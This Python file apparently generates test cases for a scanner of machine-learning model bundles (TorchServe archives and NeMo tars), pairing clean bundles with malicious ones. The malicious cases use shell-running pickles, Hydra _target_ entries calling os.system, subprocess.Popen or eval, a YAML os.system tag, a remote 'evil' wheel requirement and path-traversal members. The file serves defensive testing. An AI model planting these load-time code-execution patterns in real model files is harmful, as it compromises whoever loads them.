"""Bundles: TorchServe's archives and NeMo's tars, which bring programs or name them."""

from __future__ import annotations

import json
import pickle
from collections.abc import Iterator

from bench.corpus.case import CODE, Case, fail, good, tarred, zipped
from bench.corpus.opcodes import pickled, shell

_MAR, _NEMO, _NONE = "mar by hand", "nemo by hand", "none"
_BAD = pickled(shell(), 2)


def _manifest(handler: str, **more: str) -> bytes:
    model = {
        "modelName": "m",
        "serializedFile": "model.pt",
        "handler": handler,
        "modelVersion": "1.0",
        **more,
    }
    return json.dumps(
        {
            "createdOn": "01/01/2026",
            "runtime": "python",
            "model": model,
            "archiverVersion": "0.12.0",
        }
    ).encode()


def _checkpoint(data: bytes) -> bytes:
    return zipped([("archive/data.pkl", data), ("archive/version", b"3\n")])


def _mars(seed: int) -> Iterator[Case]:
    clean = _checkpoint(pickle.dumps({}, 2))
    code = CODE.encode()
    yield good(
        "builtin_handler.mar",
        zipped(
            [
                ("MAR-INF/MANIFEST.json", _manifest("image_classifier")),
                ("model.pt", clean),
                ("index_to_name.json", b'{"0": "cat"}'),
            ]
        ),
        _NONE,
    )
    cases = {
        "handler": (
            [
                ("MAR-INF/MANIFEST.json", _manifest("handler.py")),
                ("handler.py", code),
                ("model.pt", clean),
            ],
            _MAR,
        ),
        "handler_method": (
            [
                ("MAR-INF/MANIFEST.json", _manifest("handler.py:run")),
                ("handler.py", code),
                ("model.pt", clean),
            ],
            _NONE,
        ),
        "model_pickle": (
            [
                ("MAR-INF/MANIFEST.json", _manifest("image_classifier")),
                ("model.pt", _checkpoint(_BAD)),
            ],
            _NONE,
        ),
        "model_file": (
            [
                ("MAR-INF/MANIFEST.json", _manifest("image_classifier", modelFile="model.py")),
                ("model.py", code),
                ("model.pt", clean),
            ],
            _NONE,
        ),
        "requirements": (
            [
                (
                    "MAR-INF/MANIFEST.json",
                    _manifest("image_classifier", requirementsFile="requirements.txt"),
                ),
                ("model.pt", clean),
                ("requirements.txt", b"evil @ http://127.0.0.1:9/evil.whl\n"),
            ],
            _NONE,
        ),
        "extra_pickle": (
            [
                ("MAR-INF/MANIFEST.json", _manifest("image_classifier")),
                ("model.pt", clean),
                ("vocabulary.pkl", _BAD),
            ],
            _NONE,
        ),
        "slip": (
            [
                ("MAR-INF/MANIFEST.json", _manifest("image_classifier")),
                ("model.pt", clean),
                ("../../x.py", code),
            ],
            _NONE,
        ),
        "handler_climbs": (
            [("MAR-INF/MANIFEST.json", _manifest("../../x.py")), ("model.pt", clean)],
            _NONE,
        ),
    }
    for slug, (members, loader) in cases.items():
        yield fail(f"{slug}.mar", zipped(members), f"Brings or names code: {slug}.", loader)


_HONEST = """\
target: nemo.collections.asr.models.EncDecCTCModel
sample_rate: 16000
encoder:
  _target_: nemo.collections.asr.modules.ConvASREncoder
  activation: relu
decoder:
  _target_: nemo.collections.asr.modules.ConvASRDecoder
  num_classes: 28
optim:
  name: adam
  lr: 0.001
"""


def _nemos(seed: int) -> Iterator[Case]:
    clean = _checkpoint(pickle.dumps({}, 2))
    plain = _HONEST.encode()
    weights = ("./model_weights.ckpt", clean)
    yield good("plain.nemo", tarred([("./model_config.yaml", plain), weights]), _NONE)
    yield good("plain_gzip.nemo", tarred([("./model_config.yaml", plain), weights], "w:gz"), _NONE)
    tokens = ("./tokenizer.vocab", b"a\nb\n")
    yield good("vocabulary.nemo", tarred([("./model_config.yaml", plain), weights, tokens]), _NONE)
    call = "  _target_: os.system\n  command: 'true'\n"
    configs = {
        "target_system": f"encoder:\n{call}",
        "target_nested": "a:\n  b:\n    - c:\n        _target_: os.system\n        command:"
        " 'true'\n",
        "target_popen": "x:\n  _target_: subprocess.Popen\n  args: [true]\n",
        "target_eval": "x:\n  _target_: builtins.eval\n  _args_: ['1+1']\n",
        "target_import": "x:\n  _target_: hydra.utils.get_object\n  path: antigravity\n",
        "target_partial": "x:\n  _target_: functools.partial\n  _args_:\n    -"
        " _target_: hydra.utils.get_method\n      path: os.system\n",
        "target_torch_load": "x:\n  _target_: torch.load\n  f: corpus-canary.txt\n",
        "target_exec_later": f"encoder:\n  _target_: nemo.x.Y\noptim:\n{call}",
    }
    for slug, text in configs.items():
        loader = _NONE if slug in ("target_exec_later", "target_partial") else _NEMO
        yield fail(
            f"{slug}.nemo",
            tarred([("./model_config.yaml", text.encode()), weights]),
            f"The configuration names what runs: {slug}.",
            loader,
        )
    tag = b"!!python/object/apply:os.system ['true']\n"
    yield fail(
        "yaml_tag.nemo",
        tarred([("./model_config.yaml", tag), weights]),
        "A tag of YAML calls os.system.",
        _NONE,
    )
    yield fail(
        "weights.nemo",
        tarred([("./model_config.yaml", plain), ("./model_weights.ckpt", _checkpoint(_BAD))]),
        "Runs a shell command in its weights.",
        _NONE,
    )
    yield fail(
        "weights_gzip.nemo",
        tarred(
            [("./model_config.yaml", plain), ("./model_weights.ckpt", _checkpoint(_BAD))], "w:gz"
        ),
        "Runs a shell command in its weights.",
        _NONE,
    )
    yield fail(
        "slip.nemo",
        tarred([("../../x", b""), ("./model_config.yaml", plain), weights]),
        "Unpacking writes outside of the folder.",
        "tarfile.extractall",
    )
    yield fail(
        "config_twice.nemo",
        tarred(
            [
                ("./model_config.yaml", plain),
                ("model_config.yaml", configs["target_system"].encode()),
                weights,
            ]
        ),
        "Has two configurations.",
        _NEMO,
    )


PARTS = (_mars, _nemos)
